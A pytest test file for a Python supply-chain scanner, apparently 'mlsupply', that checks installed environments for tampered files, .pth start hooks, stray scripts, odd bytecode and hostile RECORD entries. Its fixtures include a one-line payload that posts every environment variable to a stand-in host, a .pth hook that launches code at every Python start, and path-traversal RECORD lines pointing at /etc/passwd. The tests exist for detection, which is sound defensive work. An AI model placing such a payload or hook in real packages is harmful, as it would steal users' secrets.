"""Installed environments looked into: what RECORD lists of each package, and whatever runs at every start of Python."""

from __future__ import annotations

import base64
import hashlib
import json
import os
from pathlib import Path

import pytest

from mlsupply.audit import run
from mlsupply.model import Reason, SourceKind
from mlsupply.outcome import Report
from mlsupply.request import Request
from mlsupply.world import World

STEALS = "import os, requests\nrequests.post('https://c.example/e', json=dict(os.environ))\n"
HOOK = "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', 'import acme_agent'])\n"


@pytest.fixture
def site(tmp_path: Path) -> Path:
    folder = tmp_path / "env/lib/python3.12/site-packages"
    folder.mkdir(parents=True)
    (tmp_path / "env/pyvenv.cfg").write_text("home = /usr/bin\n", encoding="utf-8")
    return folder


def install(site: Path, name: str, files: dict[str, str], version: str = "1.0") -> Path:
    """As an installer does it: the files, and RECORD with their digests and sizes. Gives the path of RECORD."""
    information = site / f"{name}-{version}.dist-info"
    information.mkdir()
    lines = [f"{information.name}/METADATA,,", f"{information.name}/RECORD,,"]
    for path, text in files.items():
        target = site / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text, encoding="utf-8")
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        lines.append(f"{path},sha256={digest},{len(text)}")
    (information / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n", encoding="utf-8")
    (information / "RECORD").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return information / "RECORD"


def scanned(world: World, site: Path, mode: str = "all") -> Report:
    request = Request(
        environment=str(site.parents[2]), offline=True, checks=("contents",), settings={"contents": {"mode": mode}}
    )
    return run(request, world)


def found(report: Report) -> set[tuple[str, str, str]]:
    """(package or folder, rule, where) of what is medium or worse."""
    return {
        (f.package.name if f.package else Path(f.subject).name, f.id, f.places[0].member or "")
        for f in report.findings
        if f.severity.value in {"medium", "high", "critical"}
    }


def test_what_an_environment_holds_is_read_where_it_lies(site: Path, world: World) -> None:
    install(site, "thief", {"thief/__init__.py": STEALS})
    install(site, "quiet", {"quiet/__init__.py": "x = 1\n", "quiet/data.json": "{}"})
    report = scanned(world, site)
    assert found(report) == {("thief", "MLS-C010", "thief/__init__.py")}
    assert report.gaps == ()


def test_by_default_only_what_runs_at_every_start_is_read_and_that_is_said(site: Path, world: World) -> None:
    install(site, "thief", {"thief/__init__.py": STEALS})
    install(site, "hooked", {"hooked/__init__.py": "", "hooked.pth": HOOK})
    report = scanned(world, site, "local")
    assert found(report) == {("hooked", "MLS-C037", "hooked.pth")}
    (gap,) = report.gaps
    assert gap.reason is Reason.DISABLED
    assert "--contents all" in gap.hint


@pytest.mark.parametrize("mode", ["local", "all"])
def test_a_start_file_that_belongs_to_no_package_is_found_with_the_module_it_names(
    mode: str, site: Path, world: World
) -> None:
    """What a payload leaves behind is in nobody's RECORD."""
    install(site, "quiet", {"quiet/__init__.py": "x = 1\n"})
    (site / "zz.pth").write_text("import zz_loader\n", encoding="utf-8")
    (site / "zz_loader.py").write_text(STEALS, encoding="utf-8")
    (site / "usercustomize.py").write_text(STEALS, encoding="utf-8")
    names = {(name, where) for name, _, where in found(scanned(world, site, mode))}
    assert names == {("site-packages", "zz_loader.py"), ("site-packages", "usercustomize.py")}


def test_the_start_files_of_ordinary_environments_are_quiet(site: Path, world: World) -> None:
    install(
        site, "setuptools", {"setuptools/__init__.py": "", "distutils-precedence.pth": "import os; os.environ.get('X')\n"}
    )
    (site / "__editable__.app-1.0.pth").write_text("/home/me/app/src\n", encoding="utf-8")
    (site / "_virtualenv.pth").write_text("import _virtualenv\n", encoding="utf-8")
    (site / "_virtualenv.py").write_text("import sys\nVERSION = sys.version_info\n", encoding="utf-8")
    assert found(scanned(world, site)) == set()


def test_a_file_changed_after_it_was_installed_is_found(site: Path, world: World) -> None:
    install(site, "quiet", {"quiet/__init__.py": "x = 1\n", "quiet/other.py": "y = 1\n"})
    (site / "quiet/__init__.py").write_text("x = 2\n", encoding="utf-8")
    (site / "quiet/other.py").unlink()
    report = scanned(world, site)
    assert {(f.id, f.places[0].member) for f in report.findings} >= {("MLS-A010", "quiet/__init__.py")}


def test_bytecode_and_what_an_installer_made_is_not_held_against_a_package(site: Path, world: World) -> None:
    record = install(
        site, "quiet", {"quiet/__init__.py": "x = 1\n", "../../../bin/quiet": "#!/env/bin/python\nimport quiet\n"}
    )
    made = ["quiet/__pycache__/__init__.cpython-312.pyc,,", "../../../bin/gone.exe,,", "quiet-1.0.dist-info/INSTALLER,,"]
    record.write_text(record.read_text(encoding="utf-8") + "\n".join(made) + "\n", encoding="utf-8")
    (site / "quiet-1.0.dist-info/INSTALLER").write_text("uv", encoding="utf-8")
    assert found(scanned(world, site)) == set()


def test_scripts_beside_the_packages_are_read(site: Path, world: World) -> None:
    install(site, "tool", {"tool/__init__.py": "", "../../../bin/tool": f"#!/env/bin/python3.12\n{STEALS}"})
    assert [(name, where) for name, _, where in found(scanned(world, site))] == [("tool", "tool-1.0.data/scripts/tool")]


FOLDER = "file:///home/me/app"
CLAIMS: dict[str, dict[str, object]] = {
    "editable": {"url": FOLDER, "dir_info": {"editable": True}},
    "a folder": {"url": FOLDER, "dir_info": {}},
    "an address": {"url": "https://files.example/helper.whl", "archive_info": {}},
}


def claiming(site: Path, name: str, claim: dict[str, object], files: dict[str, str], version: str = "1.0") -> None:
    """A package that says where it came from, as a wheel that brings its own `direct_url.json` can."""
    install(site, name, {**files, f"{name}-{version}.dist-info/direct_url.json": json.dumps(claim)}, version)


@pytest.mark.parametrize("claim", CLAIMS.values(), ids=CLAIMS)
def test_a_package_whose_files_are_here_is_judged_wherever_it_says_it_came_from(
    claim: dict[str, object], site: Path, world: World
) -> None:
    claiming(site, "litellm", claim, {"litellm/__init__.py": STEALS}, "1.82.8")
    claiming(site, "reqeusts", claim, {"reqeusts.py": "x = 1\n"})
    report = scanned(world, site)
    assert found(report) == {("litellm", "MLS-C010", "litellm/__init__.py")}
    request = Request(environment=str(site.parents[2]), offline=True, feed="embedded")
    report = run(request, world)
    kinds = {(f.package.name, f.kind.value) for f in report.findings if f.package}
    assert {("litellm", "malicious"), ("reqeusts", "name")} <= kinds
    assert ("release", "reqeusts 1.0") in {(gap.check, gap.subject) for gap in report.gaps}


def test_a_copy_of_ones_own_project_is_said_and_fails_no_pipeline(site: Path, world: World) -> None:
    claiming(site, "app", CLAIMS["a folder"], {"app/__init__.py": "x = 1\n"})
    report = run(Request(environment=str(site.parents[2]), offline=True, checks=("release",)), world)
    assert [gap.reason for gap in report.gaps if gap.subject == "app 1.0"] == [Reason.DISABLED]


def test_what_is_installed_in_place_is_the_users_own_and_what_leads_there_is_read(site: Path, world: World) -> None:
    """The record of malicious releases does not fit a project that happens to have such a name, but hooks are hooks."""
    shims = {
        "__editable__.litellm-1.82.8.pth": "import __editable___litellm_finder; __editable___litellm_finder.install()\n",
        "__editable___litellm_finder.py": "MAPPING = {'litellm': '/home/me/app/litellm'}\ndef install(): pass\n",
        "../../../bin/litellm": "#!/env/bin/python\nimport litellm\n",
    }
    claiming(site, "litellm", CLAIMS["editable"], shims, "1.82.8")
    report = run(Request(environment=str(site.parents[2]), offline=True, feed="embedded"), world)
    assert report.packages[0].source.kind is SourceKind.EDITABLE
    assert "malicious" not in {finding.kind.value for finding in report.findings}
    claiming(site, "hooked", CLAIMS["editable"], {"hooked.pth": HOOK, "../../../bin/hooked": f"#!/env/bin/python\n{STEALS}"})
    wheres = {where for name, _, where in found(scanned(world, site)) if name == "hooked"}
    assert wheres == {"hooked.pth", "hooked-1.0.data/scripts/hooked"}


def test_scripts_of_one_name_in_two_folders_are_both_read(site: Path, world: World) -> None:
    honest, evil = "#!/env/bin/python\nimport tool\n", f"#!/env/bin/python\n{STEALS}"
    install(site, "tool", {"tool/__init__.py": "", "../../../bin/tool": honest, "../../../Scripts/tool": evil})
    assert [rule for _, rule, _ in found(scanned(world, site))] == ["MLS-C010"]


def test_data_beside_an_editable_project_leaves_it_the_users_own(site: Path, world: World) -> None:
    claiming(site, "app", CLAIMS["editable"], {"_editable_impl_app.pth": "/home/me/app\n", "app/rules/one.yaml": "x: 1\n"})
    (package,) = scanned(world, site).packages
    assert package.source.kind is SourceKind.EDITABLE


def test_an_egg_whose_files_nobody_lists_is_a_gap_and_no_index_is_asked_instead(site: Path, world: World) -> None:
    (site / "old-1.0.egg-info").mkdir()
    (site / "old-1.0.egg-info/PKG-INFO").write_text("Name: old\nVersion: 1.0\n", encoding="utf-8")
    (gap,) = scanned(world, site).gaps
    assert "installed without RECORD" in gap.detail


def test_files_that_are_links_are_read_where_they_lead(site: Path, world: World, tmp_path: Path) -> None:
    """Installers can link packages out of their cache."""
    install(site, "thief", {"thief/__init__.py": STEALS})
    cached = tmp_path / "cache.py"
    (site / "thief/__init__.py").replace(cached)
    (site / "thief/__init__.py").symlink_to(cached)
    assert {name for name, _, _ in found(scanned(world, site))} == {"thief"}


@pytest.mark.parametrize(
    ("lines", "said"),
    [
        ("", "none of the files RECORD lists"),
        ("../../../../../../etc/passwd,,\n/etc/passwd,,\n", "none of the files RECORD lists"),
    ],
)
def test_a_record_that_tells_no_file_of_the_environment_is_a_gap(lines: str, said: str, site: Path, world: World) -> None:
    install(site, "odd", {"odd/__init__.py": STEALS}).write_text(lines, encoding="utf-8")
    report = scanned(world, site)
    assert [said in gap.detail for gap in report.gaps if gap.check == "contents"] == [True]
    assert ("site-packages", "MLS-C010", "odd/__init__.py") in found(report), "it is read as a file of nobody's"


def test_files_that_record_names_in_strange_ways_are_looked_at_or_said(site: Path, world: World, tmp_path: Path) -> None:
    """What lies outside the environment is never opened, and a file is never passed over for how its name is written."""
    record = install(site, "odd", {"odd/__init__.py": "x = 1\n", "odd/thief.py": STEALS, "odd/__pycache__/thief.py": STEALS})
    (tmp_path / "outside.py").write_text(STEALS, encoding="utf-8")
    (site / "odd\\back.py").write_text(STEALS, encoding="utf-8")
    (tmp_path / "env/bin").mkdir()
    (tmp_path / "env/bin/odd").write_text(f"#!/usr/bin/python3\n{STEALS}", encoding="utf-8")
    names = [
        f"{site}/odd/thief.py",
        "odd/__pycache__/thief.py",
        "odd\\back.py",
        "../../../../outside.py",
        "../../../bin/odd",
    ]
    own = ["odd-1.0.dist-info/METADATA", "odd-1.0.dist-info/RECORD", "odd/__init__.py"]
    record.write_text(
        "".join(f"{name},,\n" for name in (*own, *names, "gone\\x.py", "../../../../gone.py")), encoding="utf-8"
    )
    report = scanned(world, site)
    thieves = {"odd/thief.py", "odd/__pycache__/thief.py", "odd-1.0.data/scripts/odd"}
    assert {where for _, rule, where in found(report) if rule == "MLS-C010"} == thieves
    said = {gap.place.member: gap.reason for gap in report.gaps if gap.place}
    assert said == {"odd\\back.py": Reason.UNSUPPORTED, "../../../../outside.py": Reason.FORBIDDEN}

    for number in range(40):
        (tmp_path / f"o{number}.py").write_text("", encoding="utf-8")
    more = "".join(f"../../../../o{number}.py,,\n" for number in range(40))
    record.write_text(record.read_text(encoding="utf-8") + more, encoding="utf-8")
    listed = [gap.detail for gap in scanned(world, site).gaps]
    assert len(listed) == 11
    assert listed[-1].endswith("as are 31 more")


def test_bytecode_without_its_source_is_a_gap(site: Path, world: World) -> None:
    made = "odd/__pycache__/__init__.cpython-312.pyc"
    strange = ["odd/full.pyc", "odd/__pycache__/gone.cpython-312.opt-1.pyc"]
    install(site, "odd", {"odd/__init__.py": "x = 1\n", **dict.fromkeys([made, *strange], "bytecode")})
    (gap,) = scanned(world, site).gaps
    assert (gap.place.member if gap.place else "", gap.reason) == (strange[0], Reason.UNSUPPORTED)
    assert "and so are 1 more" in gap.detail


def test_bytecode_that_runs_whatever_its_source_says_is_a_gap(site: Path, world: World) -> None:
    """PEP 552: of the three kinds of compiled files one is never held against its source."""
    names = ("asked", "unasked", "neither", "checked")  # in the order of the two bits that tell
    places = [f"odd/__pycache__/{name}.cpython-312.pyc" for name in names]
    install(site, "odd", dict.fromkeys([*(f"odd/{name}.py" for name in names), *places], ""))
    for flags, place in enumerate(places):
        (site / place).write_bytes(b"\xcb\r\r\n" + flags.to_bytes(4, "little") + bytes(64))
    (gap,) = scanned(world, site).gaps
    assert (gap.place.member if gap.place else "") == places[1]
    assert "whatever its source says" in gap.detail


def test_files_that_no_record_lists_are_read_under_no_package(site: Path, world: World) -> None:
    install(site, "quiet", {"quiet/__init__.py": "x = 1\n", "quiet/__pycache__/__init__.cpython-312.pyc": "made"})
    (site / "quiet/added.py").write_text(STEALS, encoding="utf-8")
    (site / "quiet/__pycache__/added.cpython-312.pyc").write_bytes(b"made")
    (site / "quiet/notes.txt").write_text("notes", encoding="utf-8")
    (site / "bare").mkdir()
    (site / "bare/full.pyc").write_bytes(b"bytecode")
    (site / "away").symlink_to("/tmp")
    report = scanned(world, site)
    assert found(report) == {("site-packages", "MLS-C010", "quiet/added.py")}
    assert {gap.place.member: gap.reason for gap in report.gaps if gap.place} == {
        "bare/full.pyc": Reason.UNSUPPORTED,
        "away": Reason.FORBIDDEN,
    }
    assert found(scanned(world, site, "local")) == set()


def test_an_environment_behind_a_link_is_called_as_it_was_named(site: Path, world: World, tmp_path: Path) -> None:
    install(site, "quiet", {"quiet/__init__.py": "x = 1\n"})
    (site / "added.py").write_text(STEALS, encoding="utf-8")
    (site / "usercustomize.py").write_text(STEALS, encoding="utf-8")
    (tmp_path / "link").symlink_to("env")
    named = tmp_path / "link" / site.relative_to(tmp_path / "env")
    findings = scanned(world, named).findings
    assert {(finding.subject, finding.places[0].member) for finding in findings if finding.id == "MLS-C010"} == {
        (str(named), "added.py"),
        (str(named), "usercustomize.py"),
    }


def test_more_unlisted_files_than_are_read_are_said(site: Path, world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    from mlsupply.evidence import unlisted

    monkeypatch.setattr(unlisted, "_MOST", 5)
    install(site, "quiet", {"quiet/__init__.py": "x = 1\n"})
    for number in range(9):
        (site / f"m{number}.py").write_text("", encoding="utf-8")
    (gap,) = scanned(world, site).gaps
    assert gap.reason is Reason.LIMIT


def test_a_hostile_record_costs_little_and_hides_nothing(site: Path, world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    from mlsupply.evidence import installed

    monkeypatch.setattr(installed, "_MOST", 1_000)
    record = install(site, "thief", {"thief/__init__.py": STEALS})
    odd = ["a\0b,,", "\x1b[2J.py,,", f"{'x/' * 3000}y.py,,", "..,,", "../..,,", '"un\nfinished,,']
    record.write_text(record.read_text(encoding="utf-8") + "\n".join(odd) + "\n", encoding="utf-8")
    assert ("thief", "MLS-C010", "thief/__init__.py") in found(scanned(world, site))

    many = [f"f{number}.py,," for number in range(2_000)]
    record.write_text("\n".join(["thief/__init__.py,,", *many]), encoding="utf-8")
    report = scanned(world, site)
    assert ("thief", "MLS-C010", "thief/__init__.py") in found(report)
    assert Reason.LIMIT in {gap.reason for gap in report.gaps}


def test_an_environment_is_read_once_until_one_of_its_files_changes(
    site: Path, world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    from mlsupply.evidence import look

    install(site, "quiet", {"quiet/__init__.py": "x = 1\n"})
    assert scanned(world, site).findings == ()
    with monkeypatch.context() as patch:
        patch.delattr(look, "looked_at")  # nothing may be analysed again
        again = scanned(world, site)
        assert (again.findings, again.gaps) == ((), ())
    changed = site / "quiet/__init__.py"
    before = changed.stat()
    changed.write_text("x = 9\n", encoding="utf-8")
    os.utime(changed, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert [f.id for f in scanned(world, site).findings] == ["MLS-A010"]
